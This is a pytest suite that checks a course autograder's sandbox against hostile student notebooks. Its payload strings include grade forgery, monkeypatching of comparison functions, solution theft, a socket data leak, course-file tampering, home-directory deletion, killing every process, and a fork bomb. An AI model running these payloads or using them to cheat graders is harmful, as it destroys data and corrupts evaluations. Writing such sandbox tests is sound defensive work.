"""Hostile submissions: every attack on ``python -m course_utils grade`` that the course knows of.

One batch of lesson-00 submissions is graded once, through the documented command with its
default options (sandbox on). Each hostile student's answer is *wrong* (``c * 5 / 9 + 32``)
and their notebook adds a payload; honest students (a peer with the right answer, a later
student with a wrong one) are graded in the same batch. The tests assert outcomes: the grade
recorded, the instructor's files and the course code unchanged, peers unaffected, no process
left behind, the gradebook complete. Nothing here asserts a sandbox flag.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from course_utils import build
from course_utils.grading import registry
from course_utils.instructor import grade, sandbox

pytestmark = [pytest.mark.slow,  # every test grades real notebooks in the sandbox
              pytest.mark.skipif(sandbox.works() is not None, reason=f"no bubblewrap sandbox here: {sandbox.works()}")]

LESSON = "00_start_here"
EX = f"{LESSON}.celsius_to_fahrenheit"
RIGHT = "def celsius_to_fahrenheit(celsius):\n    return celsius * 9 / 5 + 32\n"
WRONG = "def celsius_to_fahrenheit(celsius):\n    return celsius * 5 / 9 + 32\n"
ROOT = grade.ROOT
TOKEN = "i9tok" + uuid.uuid4().hex[:10]  # marks every process a payload starts


def _learner() -> nbformat.NotebookNode:
    return nbformat.read(build.NOTEBOOKS / f"{LESSON}.ipynb", as_version=4)


def _answer_index(nb) -> int:
    return next(i for i, c in enumerate(nb.cells)
                if c.cell_type == "code" and c.source.startswith("def celsius_to_fahrenheit"))


def notebook(answer: str = WRONG, payload: str | None = None, before_answer: bool = False) -> nbformat.NotebookNode:
    nb = _learner()
    i = _answer_index(nb)
    nb.cells[i].source = answer
    if payload is not None:
        nb.cells.insert(i if before_answer else i + 1, nbformat.v4.new_code_cell(payload))
    return nb


def _tree_hash(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def _payloads(ctx: dict) -> dict[str, str]:
    mime = "application/vnd.pytorch-course.grade+json"
    peer, canary, csv_path, port = ctx["peer"], ctx["canary"], ctx["csv"], ctx["port"]
    return {
        # ---- forged records and verdicts inside the kernel
        "forged_display": (
            "from IPython.display import display\n"
            f"display({{{mime!r}: {{'exercise': {EX!r}, 'status': 'correct'}}}}, raw=True)\n"
            f"print('✅ Correct: {EX}')"),
        "forged_frames": (
            "import os, json, struct\n"
            "def frame(h, p=b''):\n"
            "    h = json.dumps(h).encode()\n"
            "    return b'CGF1' + struct.pack('>I', len(h)) + h + struct.pack('>Q', len(p)) + p\n"
            "for pid in os.listdir('/proc'):\n"
            "    try:\n"
            "        fd = os.open(f'/proc/{pid}/fd/1', os.O_WRONLY)\n"
            f"        os.write(fd, frame({{'type': 'answer', 'exercise': {EX!r}}}, "
            "b'PICKLE not a pickle') + b'garbage')\n"
            "        os.close(fd)\n"
            "    except Exception:\n"
            "        pass"),
        "sys_modules": (
            "import sys, types, pickle\n"
            "class Magic:\n"
            "    def __reduce__(self):\n"
            "        return (exec, ('import torch, builtins; torch.testing.assert_close = lambda *a, **k: None; '\n"
            "                       'torch.equal = lambda *a, **k: True; torch.allclose = lambda *a, **k: True',))\n"
            "fake = types.ModuleType('course_utils.instructor.kernel')\n"
            "def export(ex_id, name, path=None):\n"
            "    import os\n"
            "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
            "    open(path, 'wb').write(b'PICKLE' + pickle.dumps(Magic()))\n"
            "fake.export = export\n"
            "sys.modules['course_utils.instructor.kernel'] = fake\n"
            "import course_utils.instructor\n"
            "course_utils.instructor.kernel = fake"),
        "import_hook": (
            "import builtins\n"
            "_real = builtins.__import__\n"
            "def fake_import(name, *a, **k):\n"
            "    mod = _real(name, *a, **k)\n"
            "    if name.startswith('course_utils'):\n"
            "        try:\n"
            "            import course_utils.grading.runner as r\n"
            "            r.compare = lambda *a, **k: None\n"
            "        except Exception:\n"
            "            pass\n"
            "    return mod\n"
            "builtins.__import__ = fake_import"),
        "settrace": (
            "import sys\n"
            "def tracer(frame, event, arg):\n"
            "    if event == 'return' and isinstance(arg, dict) and 'status' in arg:\n"
            "        arg['status'] = 'correct'\n"
            "    return tracer\n"
            "sys.settrace(tracer)"),
        "post_run_cell": (
            "import glob, pickle\n"
            "def rewrite(*a):\n"
            "    for p in glob.glob('/tmp/.course-answers/*'):\n"
            "        open(p, 'wb').write(b'PICKLE' + pickle.dumps(None))\n"
            "get_ipython().events.register('post_run_cell', rewrite)\n"
            "get_ipython().events.register('post_execute', rewrite)"),
        "torch_patch": (
            "import torch\n"
            "def celsius_to_fahrenheit(celsius):\n"
            "    torch.testing.assert_close = lambda *a, **k: None\n"
            "    torch.allclose = torch.equal = lambda *a, **k: True\n"
            "    torch.Tensor.__eq__ = lambda *a, **k: torch.tensor(True)\n"
            "    torch.Tensor.sub = lambda self, *a, **k: torch.zeros_like(self)\n"
            "    import course_utils.grading.compare as c, course_utils.grading.runner as r\n"
            "    c.compare = r.compare = lambda *a, **k: None\n"
            "    return celsius * 5 / 9 + 32"),
        "lying_subclass": (
            "import torch\n"
            "class Liar(torch.Tensor):\n"
            "    @classmethod\n"
            "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
            "        name = getattr(func, '__name__', '')\n"
            "        if name in ('eq', '__eq__', 'allclose', 'equal', 'isclose'):\n"
            "            return True\n"
            "        return super().__torch_function__(func, types, args, kwargs or {})\n"
            "def celsius_to_fahrenheit(celsius):\n"
            "    return (celsius * 5 / 9 + 32).as_subclass(Liar)"),
        "reference_at_call_time": (
            "from course_utils import grading\n"
            "def celsius_to_fahrenheit(celsius):\n"
            f"    return grading.reference({EX!r})(celsius)"),
        "reference_object": ("from course_utils.exercises.l00_start_here.celsius_to_fahrenheit "
                             "import celsius_to_fahrenheit"),
        "reference_code_copy": (
            "from course_utils import grading\n"
            "def celsius_to_fahrenheit(celsius):\n"
            "    return celsius\n"
            f"celsius_to_fahrenheit.__code__ = grading.reference({EX!r}).__code__"),
        "solutions_exec": (
            "import glob, os\n"
            f"cands = [{str(ROOT / 'solutions' / (LESSON + '.py'))!r}, '/course/solutions/{LESSON}.py', "
            f"'/work/main/solutions/{LESSON}.py']\n"
            "cands += glob.glob('/**/solutions/00_start_here.py', recursive=False)\n"
            "for c in cands:\n"
            "    try:\n"
            "        src = open(c).read()\n"
            "    except OSError:\n"
            "        continue\n"
            "    ns = {}\n"
            "    exec(src.split('# %% [markdown]')[0] + '\\n' + '\\n'.join(l for l in src.splitlines()"
            " if 'return celsius' in l or l.startswith('def celsius')), ns)\n"
            "    celsius_to_fahrenheit = ns.get('celsius_to_fahrenheit', celsius_to_fahrenheit)\n"
            "import inspect, course_utils.exercises.l00_start_here.celsius_to_fahrenheit as m\n"
            "try:\n"
            "    exec(inspect.getsource(m), vars(m))\n"
            "    celsius_to_fahrenheit = m.celsius_to_fahrenheit\n"
            "except Exception:\n"
            "    pass"),
        "env_secret": (
            "import os\n"
            "if os.environ.get('I9_GRADER_SECRET') == 'hunter2':\n"
            "    def celsius_to_fahrenheit(celsius):\n"
            "        return celsius * 9 / 5 + 32"),
        "network": (
            "import socket\n"
            "for host in ('127.0.0.1', '10.0.2.2', '1.1.1.1'):\n"
            "    try:\n"
            f"        socket.create_connection((host, {port}), timeout=1).sendall(b'leak')\n"
            "    except OSError:\n"
            "        pass"),
        # ---- effects on other students and on the instructor
        "course_rewrite": (
            "import glob, os, site, sys\n"
            f"roots = [{str(ROOT / 'course_utils')!r}, '/course/course_utils', '/work/main/course_utils']\n"
            "roots += [os.path.dirname(m.__file__) for m in [sys.modules['course_utils']]]\n"
            "for root in roots:\n"
            "    for p in glob.glob(root + '/**/*.py', recursive=True):\n"
            "        try:\n"
            "            open(p, 'a').write('\\nimport builtins; builtins.PWNED = True\\n')\n"
            "        except OSError:\n"
            "            pass\n"
            "for sp in site.getsitepackages():\n"
            "    try:\n"
            "        open(os.path.join(sp, 'zz_pwn.pth'), 'w').write('import os\\n')\n"
            "    except OSError:\n"
            "        pass"),
        "syntax_plant": (
            f"for p in [{str(ROOT / 'course_utils/grading/__init__.py')!r}, "
            "'/course/course_utils/grading/__init__.py']:\n"
            "    try:\n"
            "        open(p, 'w').write('def broken(:\\n')\n"
            "    except OSError:\n"
            "        pass"),
        "peer_overwrite": (
            "import glob, os, json\n"
            f"targets = [{str(peer)!r}] + glob.glob('/submission/*') + glob.glob('/tmp/**/*.ipynb', recursive=True)\n"
            "for pid in os.listdir('/proc'):\n"
            "    try:\n"
            "        targets += [a for a in open(f'/proc/{pid}/cmdline').read().split('\\0') if a.endswith('.ipynb')]\n"
            "    except OSError:\n"
            "        pass\n"
            "for t in targets:\n"
            "    try:\n"
            "        open(t, 'w').write('{\"cells\": []}')\n"
            "    except OSError:\n"
            "        pass"),
        "home_delete": (
            "import os, shutil\n"
            f"for d in [os.path.expanduser('~'), {str(canary)!r}, '/root', '/home']:\n"
            "    shutil.rmtree(d, ignore_errors=True)"),
        "kill_everything": (
            "import os, signal\n"
            "for pid in sorted((int(p) for p in os.listdir('/proc') if p.isdigit()), reverse=True):\n"
            "    if pid != os.getpid():\n"
            "        try:\n"
            "            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n"
            "            pass\n"
            "os.kill(os.getppid(), signal.SIGKILL)"),
        "daemon": (
            "import os, subprocess, sys\n"
            "code = ('import time, os; time.sleep(4)\\n'\n"
            f"        'open({str(csv_path)!r}, \"w\").write(\"pwned\")\\n'\n"
            f"        'open({str(canary.parent / 'daemon_marker')!r}, \"w\").write(\"{TOKEN}\")')\n"
            "subprocess.Popen([sys.executable, '-c', code, " + repr(TOKEN) + "], start_new_session=True,\n"
            "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv('/bin/sh', ['sh', '-c', 'sleep 30; echo {TOKEN}'])\n"
            "    os._exit(0)"),
        # ---- limits
        "fork_bomb": (
            "import os, time\n"
            "n = 0\n"
            "for _ in range(5000):\n"
            "    try:\n"
            "        pid = os.fork()\n"
            "    except OSError:\n"
            "        break\n"
            "    if pid == 0:\n"
            "        try:\n"
            f"            os.execv('/bin/sh', ['sh', '-c', 'sleep 120; : {TOKEN}'])\n"
            "        finally:\n"
            "            os._exit(0)\n"
            "    n += 1\n"
            "print('forked', n)"),
        "alloc_6gb": (
            "import torch\n"
            "x = torch.empty(6 * 1024**3, dtype=torch.uint8)\n"
            "x.fill_(1)"),
        "output_100mb": "import sys\nline = 'x' * (1024 * 1024)\nfor _ in range(100):\n    print(line)",
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs = base / "submissions"
    subs.mkdir()
    canary = base / "instructor_home"
    canary.mkdir()
    (canary / "thesis.txt").write_text("years of work")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.setblocking(False)
    peer = subs / "peer" / f"{LESSON}.ipynb"
    ctx = {"peer": peer, "canary": canary, "csv": base / "grades.csv", "port": listener.getsockname()[1]}
    payloads = _payloads(ctx)
    (subs / "peer").mkdir()
    nbformat.write(notebook(RIGHT), peer)
    for name, code in payloads.items():
        (subs / name).mkdir()
        nbformat.write(notebook(WRONG, code), subs / name / f"{LESSON}.ipynb")
    # a later honest student with a wrong answer, and one with a right answer (in "zz" folders
    # so they are graded after the attacks)
    (subs / "zz_later_wrong").mkdir()
    nbformat.write(notebook(WRONG), subs / "zz_later_wrong" / f"{LESSON}.ipynb")
    (subs / "zz_later_right").mkdir()
    nbformat.write(notebook(RIGHT), subs / "zz_later_right" / f"{LESSON}.ipynb")
    # bad file names and a duplicate
    weird = subs.as_posix().encode() + b"/caf\xe9 \"o'neil\", x_" + LESSON.encode() + b".ipynb"
    with open(weird, "w") as fh:
        nbformat.write(notebook(RIGHT), fh)
    (subs / "dana").mkdir()
    nbformat.write(notebook(RIGHT), subs / "dana" / f"{LESSON}.ipynb")
    nbformat.write(notebook(WRONG), subs / f"dana_{LESSON}.ipynb")

    course_before = _tree_hash(ROOT / "course_utils")
    solutions_before = _tree_hash(ROOT / "solutions")
    peer_before = peer.read_bytes()
    old_env = os.environ.get("I9_GRADER_SECRET")
    os.environ["I9_GRADER_SECRET"] = "hunter2"
    out = io.StringIO()
    start = time.perf_counter()
    try:
        with contextlib.redirect_stdout(out):
            code = grade.main([str(subs), "--csv", str(ctx["csv"]), "--json", str(base / "grades.json"),
                               "--wide-csv", str(base / "wide.csv"), "--workers", "2", "--timeout", "20"])
    finally:
        if old_env is None:
            os.environ.pop("I9_GRADER_SECRET", None)
        else:
            os.environ["I9_GRADER_SECRET"] = old_env
    took = time.perf_counter() - start
    csv_after_grade = ctx["csv"].read_bytes()
    time.sleep(6)  # long enough for a surviving daemon to strike
    connections = 0
    with contextlib.suppress(BlockingIOError):
        while True:
            listener.accept()[0].close()
            connections += 1
    listener.close()
    with open(ctx["csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    return {"code": code, "out": out.getvalue(), "rows": rows, "base": base, "subs": subs, "ctx": ctx,
            "payloads": payloads, "csv_after_grade": csv_after_grade, "connections": connections,
            "course_before": course_before, "solutions_before": solutions_before, "peer_before": peer_before,
            "json": json.loads((base / "grades.json").read_text(encoding="utf-8")), "took": took,
            "wide": (base / "wide.csv").read_text(encoding="utf-8")}


def _row(h, student):
    found = [r for r in h["rows"] if r["student"] == student]
    assert len(found) == 1, (student, found)
    return found[0]


ATTACKS_GRADED_INCORRECT = [
    "forged_display", "sys_modules", "import_hook", "settrace", "post_run_cell", "torch_patch", "lying_subclass",
    "reference_at_call_time", "reference_object", "reference_code_copy", "solutions_exec", "env_secret",
    "network", "course_rewrite", "syntax_plant", "peer_overwrite", "home_delete", "daemon", "fork_bomb",
    "alloc_6gb", "output_100mb",
]


@pytest.mark.slow
def test_the_batch_completes_with_every_notebook_in_the_gradebook(hostile):
    assert hostile["code"] == 0, hostile["out"][-3000:]
    students = {r["student"] for r in hostile["rows"]}
    for name in hostile["payloads"]:
        assert name in students, (name, hostile["out"][-3000:])
    book = sqlite3.connect(hostile["base"] / "grades.sqlite")
    n_notebooks = book.execute("SELECT COUNT(*) FROM notebooks").fetchone()[0]
    assert n_notebooks == len(list(hostile["subs"].rglob("*.ipynb")))
    assert book.execute("SELECT COUNT(*) FROM grades").fetchone()[0] == n_notebooks


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS_GRADED_INCORRECT)
def test_no_attack_turns_a_wrong_answer_correct(hostile, attack):
    row = _row(hostile, attack)
    assert row["status"] == "incorrect", (attack, row, [j for j in hostile["json"] if j["student"] == attack])
    assert row["points"] == "0"


@pytest.mark.slow
@pytest.mark.parametrize("attack", ["kill_everything", "forged_frames"])
def test_attacks_on_the_runner_are_errors_never_correct(hostile, attack):
    assert _row(hostile, attack)["status"] in ("incorrect", "error")


@pytest.mark.slow
def test_honest_students_are_unaffected(hostile):
    assert _row(hostile, "peer")["status"] == "correct"
    assert _row(hostile, "zz_later_right")["status"] == "correct"
    assert _row(hostile, "zz_later_wrong")["status"] == "incorrect"
    assert _row(hostile, "zz_later_wrong")["mistake"] == "inverted_ratio"


@pytest.mark.slow
def test_files_outside_the_sandbox_are_untouched(hostile):
    assert _tree_hash(ROOT / "course_utils") == hostile["course_before"]
    assert _tree_hash(ROOT / "solutions") == hostile["solutions_before"]
    assert hostile["ctx"]["peer"].read_bytes() == hostile["peer_before"]
    canary = hostile["ctx"]["canary"]
    assert (canary / "thesis.txt").read_text() == "years of work"
    assert not (canary.parent / "daemon_marker").exists()
    assert hostile["ctx"]["csv"].read_bytes() == hostile["csv_after_grade"]
    assert hostile["connections"] == 0
    import site

    assert not any(Path(sp, "zz_pwn.pth").exists() for sp in site.getsitepackages())


@pytest.mark.slow
def test_no_process_survives(hostile):
    left = []
    for p in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if TOKEN.encode() in p.read_bytes():
                left.append(p.parent.name)
    assert left == []


@pytest.mark.slow
def test_limits_are_named(hostile):
    out = hostile["out"]
    assert "memory limit 2 GB" in out
    mem = [j for j in hostile["json"] if j["student"] == "alloc_6gb"][0]
    assert mem["status"] == "incorrect"  # the cell failed, the batch and the notebook went on


@pytest.mark.slow
def test_bad_file_names_and_duplicates(hostile):
    weird = [r for r in hostile["rows"] if "caf" in r["notebook"]]
    assert len(weird) == 1 and weird[0]["status"] == "correct", weird
    assert "\\xe9" in weird[0]["notebook"] and "o'neil" in weird[0]["notebook"]
    assert "DUPLICATES" in hostile["out"] and "dana / 00_start_here" in hostile["out"]
    dana = [j for j in hostile["json"] if j["student"] == "dana"]
    assert len(dana) == 2 and all(j["duplicate"] for j in dana)
    wide = list(csv.reader(io.StringIO(hostile["wide"])))
    assert wide[0][0] == "Student" and wide[0][-1].startswith("Total")
    assert [r for r in wide if r[0] == "dana"][0][2:] == ["", ""]  # neither counts until one is removed


# ----------------------------------------------------------------------------- interruption


def _cli(args, **kw):
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.Popen([sys.executable, "-m", "course_utils", "grade", *args], env=env, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, **kw)


@pytest.mark.slow
def test_sigterm_stops_cleanly_and_a_rerun_resumes(tmp_path):
    subs = tmp_path / "subs"
    for name, nb in [("a_fast", notebook(RIGHT)),
                     ("b_slow", notebook(RIGHT, "import subprocess\n"
                                                f"subprocess.run(['sh', '-c', 'sleep 300; : {TOKEN}'])"))]:
        (subs / name).mkdir(parents=True)
        nbformat.write(nb, subs / name / f"{LESSON}.ipynb")
    csv_path = tmp_path / "g.csv"
    proc = _cli([str(subs), "--csv", str(csv_path), "--workers", "2", "--timeout", "400"])
    lines = []
    deadline = time.time() + 240
    while time.time() < deadline:
        line = proc.stdout.readline()
        lines.append(line)
        if "graded" in line and "a_fast" in line:
            break
    time.sleep(1)
    proc.send_signal(signal.SIGTERM)
    rest, _ = proc.communicate(timeout=60)
    out = "".join(lines) + rest
    assert proc.returncode == 128 + signal.SIGTERM, out
    assert "INTERRUPTED (SIGTERM): 1 of 2" in out
    book = sqlite3.connect(tmp_path / "g.sqlite")
    assert book.execute("SELECT COUNT(*) FROM notebooks").fetchone()[0] == 1
    time.sleep(1)
    assert not [p for p in Path("/proc").glob("[0-9]*/cmdline") if TOKEN.encode() in _read(p)]
    # rerun without the slow cell: the finished notebook comes from the gradebook
    nbformat.write(notebook(RIGHT), subs / "b_slow" / f"{LESSON}.ipynb")
    again = _cli([str(subs), "--csv", str(csv_path), "--workers", "2", "--timeout", "60"])
    out2, _ = again.communicate(timeout=300)
    assert again.returncode == 0, out2
    assert "a_fast" in out2 and "from the gradebook" in out2
    with open(csv_path, newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted((r["student"], r["status"]) for r in rows) == [("a_fast", "correct"), ("b_slow", "correct")]


def _read(p: Path) -> bytes:
    try:
        return p.read_bytes()
    except OSError:
        return b""


def test_no_sandbox_refuses_with_install_instructions(tmp_path, monkeypatch, capsys):
    nb = tmp_path / f"{LESSON}.ipynb"
    nbformat.write(notebook(RIGHT), nb)
    monkeypatch.setattr(sandbox, "bwrap", lambda: None)
    assert grade.main([str(nb), "--gradebook", str(tmp_path / "g.sqlite")]) == 2
    err = capsys.readouterr().err
    assert "apt-get install -y bubblewrap" in err and "--no-sandbox" in err


def test_the_staged_course_has_no_generated_reference(tmp_path):
    """course_utils/answers/ holds every answer of the solution notebooks: the
    copy a submission runs against keeps the names (the exercise modules import them) but no
    answer's code."""
    import ast

    from course_utils import references

    sandbox.stage_course(tmp_path)
    staged = tmp_path / "course_utils" / "answers"
    # the answers later lessons train with, re-exported by lesson_props (public helpers, kept;
    # a submitted one is still the course's own object to the judge): exactly these, the last six
    # for the capstone's pieces (lesson_props.l12_capstone), which its graders run learners' parts with
    shared = sandbox.shared_answers()
    assert shared == {"l04_data": {"ShardedRange", "reseed_worker", "stratified_split"},
                      "l05_training_loop": {"train_one_epoch", "evaluate", "EarlyStopping", "warmup_cosine"},
                      "l09_persistence": {"save_checkpoint", "load_checkpoint", "export_with_dynamic_batch"}}
    modules = sorted(references.PACKAGE.glob("l[0-9][0-9]_*.py"))
    assert modules and sorted(p.name for p in staged.glob("l*.py")) == [p.name for p in modules]
    for real in modules:
        text = (staged / real.name).read_text()
        defs = [n for n in ast.parse(text).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
        real_defs = [n for n in ast.parse(real.read_text()).body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
        assert [d.name for d in defs] == [d.name for d in real_defs]
        for d in defs:
            if d.name in shared.get(real.stem, set()):
                continue
            bodies = [d] if isinstance(d, ast.FunctionDef) else [m for m in d.body if isinstance(m, ast.FunctionDef)]
            assert all(ast.unparse(b.body[0]).startswith("raise RuntimeError(") and len(b.body) == 1
                       for b in bodies), (real.name, d.name)
        ns: dict = {}
        exec(compile(text, real.name, "exec"), ns)  # still importable


@pytest.mark.parametrize("lesson, stem, name", [
    ("09_persistence", "l09_persistence", "save_checkpoint"),
    ("05_training_loop", "l05_training_loop", "EarlyStopping"),
    ("04_data", "l04_data", "stratified_split"),
])
def test_a_lessons_own_shared_answers_are_cut_where_it_is_graded(tmp_path, lesson, stem, name):
    """Later lessons train with some answers (the capstone with save_checkpoint, ...), so the
    course staged for them keeps those whole. A submission of the answer's OWN lesson could wrap
    that copy in a function of its own and hand it in (the judge only spots the course's object
    itself): in the course staged for that lesson, the answer is cut like every other, unless the
    lesson's own props train with it (lesson 05's demos with train_one_epoch): kept there, and cut in
    the executor's copy, where the answer runs (tests/test_staged_course.py)."""
    def body(course: Path) -> str:
        import ast
        text = (course / "course_utils" / "answers" / f"{stem}.py").read_text()
        node = next(n for n in ast.parse(text).body if getattr(n, "name", None) == name)
        first = node.body[0] if isinstance(node, ast.FunctionDef) else next(
            m for m in node.body if isinstance(m, ast.FunctionDef)).body[0]
        return ast.unparse(first)

    assert name in sandbox.shared_answers()[stem]
    assert not body(sandbox.stage_course(tmp_path / "later", "12_capstone")).startswith("raise RuntimeError(")
    assert not body(sandbox.stage_course(tmp_path / "any")).startswith("raise RuntimeError(")
    assert body(sandbox.stage_course(tmp_path / "own", lesson)).startswith("raise RuntimeError(")


@pytest.mark.parametrize("lesson", sorted(registry.lesson_modules()))
def test_every_lesson_imports_in_the_staged_course(lesson, tmp_path):
    """A graded notebook imports its lesson's exercises (and the dashboard every lesson's) from
    the staged copy, whose references are cut: an exercise module that calls or instantiates a
    reference at import time (a Mistake example built eagerly, say) breaks grading there."""
    code = ("import importlib\nfrom course_utils.grading import registry\n"
            f"importlib.import_module(registry.lesson_modules()[{lesson!r}])\n")
    staged_course = sandbox.stage_course(tmp_path / "staged", lesson)  # as grade stages it for this lesson
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "PYTHONPATH": str(staged_course),
           "OMP_NUM_THREADS": "1", "COURSE_PROGRESS_LOG": str(tmp_path / "log.jsonl")}
    proc = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=env, capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 0, proc.stderr[-1500:]


def test_cut_references_keeps_names_but_no_solution():
    src = ("def ref(x):\n    return x * 9 / 5 + 32\n"
           "class Net:\n    size = 3\n    def forward(self, x):\n        return x + 1\n"
           "SOL = 'x * 9 / 5'\n"
           "register(Exercise(name='ref', reference=ref, solution=SOL))\n")
    cut = sandbox.cut_references(src, {"ref", "Net"})
    assert "9 / 5" not in cut and "x + 1" not in cut and "size = 3" not in cut
    ns: dict = {"register": lambda *a: None, "Exercise": lambda **k: k}
    exec(cut, ns)
    with pytest.raises(RuntimeError, match="not available"):
        ns["ref"](1)
